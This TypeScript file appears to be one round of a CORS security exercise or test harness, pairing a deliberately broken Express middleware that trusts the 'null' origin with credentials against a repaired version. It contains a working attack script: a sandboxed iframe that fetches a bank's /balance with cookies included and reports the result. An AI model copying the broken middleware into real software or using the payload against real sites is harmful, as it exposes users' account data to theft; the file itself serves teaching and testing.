import type { Origins } from '../hosts.ts'
import { alike, type Round } from '../round.ts'
import { askWithCookies } from './scripts.ts'

const script = ({ bank }: Origins): string => `const frame = document.createElement('iframe')
frame.sandbox = 'allow-scripts'
frame.srcdoc = \`<script src="/keep.js"></script>
<script>
  keep('/balance', () =>
    fetch('${bank}/balance', { credentials: 'include' }))
  keep('/branch', () => fetch('${bank}/branch'))
</script>\`
document.body.append(frame)
`

/** A sandboxed frame of anybody's page has the origin `null`, as a file on a developer's disk has. */
export const nullOrigin: Round = {
  number: 4,
  broken:
    ({ app }) =>
    (request, response, next) => {
      const { origin } = request.headers
      // null: so that it works from a file, too.
      if (origin === app || origin === 'null') {
        response.setHeader('Access-Control-Allow-Origin', origin)
        response.setHeader('Access-Control-Allow-Credentials', 'true')
      }
      response.setHeader('Vary', 'Origin')
      next()
    },
  repaired: ({ cors, app }) => cors({ origin: app, credentials: true }),
  attacks: [
    { place: 'stranger', script, reports: 2, measured: { broken: alike('stolen'), repaired: alike('safe') } },
    { place: 'sibling', script, reports: 2, measured: { broken: alike('stolen'), repaired: alike('safe') } },
    {
      place: 'app',
      script: askWithCookies('/balance'),
      reports: 1,
      measured: { broken: alike('served'), repaired: alike('served') },
    },
  ],
}
